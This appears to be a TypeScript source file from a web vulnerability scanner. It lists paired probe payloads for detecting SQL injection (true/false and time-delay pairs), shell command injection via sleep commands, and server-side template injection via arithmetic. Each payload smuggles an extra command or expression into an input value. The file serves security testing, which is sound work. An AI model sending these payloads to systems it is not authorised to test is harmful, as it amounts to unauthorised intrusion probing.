/** Two similar texts. Only a server that executes texts can tell them apart. `{v}` stands for the valid value. */
export type PayloadPair = readonly [one: string, other: string];

/** A true and a false condition, or valid and invalid SQL. The short form uses only the first four. */
export const truths: readonly PayloadPair[] = [
  ["{v}' AND '1'='1", "{v}' AND '1'='2"],
  ['{v} AND 1=1', '{v} AND 1=2'],
  ["{v}' OR '1'='1", "{v}' OR '1'='2"],
  ["{v}'||(select 1/1)||'", "{v}'||(select 1/0)||'"],
  ['{v}" AND "1"="1', '{v}" AND "1"="2'],
  ["{v}') AND ('1'='1", "{v}') AND ('1'='2"],
  ["{v}' AND 1=1--", "{v}' AND 1=2--"],
  ["{v}' AND 1=1/*", "{v}' AND 1=2/*"],
  ["{v}%' AND '%'='", "{v}%' AND '%'='x"],
  ["{v}' ORDER BY 001--", "{v}' ORDER BY 999--"],
  ["{v}\\' AND 1=1--", "{v}\\' AND 1=2--"],
  ['-1 UNION SELECT 111--', '-1 UNION SELECT 1,1--'],
  ["{v}'::text=''--", "{v}'::teyt=''--"],
  ["{v}' AND 'a' LIKE 'a", "{v}' AND 'a' LIKE 'b"],
];

/** A text that takes no time, and one that takes three seconds if executed. The short form uses the first three. */
export const sleeps: readonly PayloadPair[] = [
  ["{v}'||(select pg_sleep(0))||'", "{v}'||(select pg_sleep(3))||'"],
  ["{v}' AND hex(randomblob(1))>'", "{v}' AND hex(randomblob(500000000))>'"],
  ['{v};sleep 0', '{v};sleep 3'],
  ["{v}';select pg_sleep(0)--", "{v}';select pg_sleep(3)--"],
  ['1 and 1=(select 1 from pg_sleep(0))', '1 and 1=(select 1 from pg_sleep(3))'],
  ['1 and hex(randomblob(1))>0', '1 and hex(randomblob(500000000))>0'],
  ['$(sleep 0)', '$(sleep 3)'],
  ['`sleep 0`', '`sleep 3`'],
  ['{v}|sleep 0', '{v}|sleep 3'],
  ["{v}'&&sleep 0#", "{v}'&&sleep 3#"],
];

/** The result of the sum below, which appears only where the sum is calculated. */
export const WORKED_OUT = '9801547';

/** Templates, shell commands and SQL that would calculate 1337 × 7331. The short form uses only the first four. */
export const sums: readonly string[] = [
  '{{1337*7331}}',
  `\${1337*7331}`,
  "'||(1337*7331)||'",
  '$((1337*7331))',
  '<%= 1337*7331 %>',
  '#{1337*7331}',
  '*{1337*7331}',
  '@(1337*7331)',
  '1337*7331',
  '`expr 1337 \\* 7331`',
  "');process.stdout.write(String(1337*7331))//",
  "' UNION SELECT 1337*7331--",
  '%{1337*7331}',
];

/** How many payloads of each kind are enough for the short form. */
export const A_LOOK = { truths: 4, sleeps: 3, sums: 4 } as const;
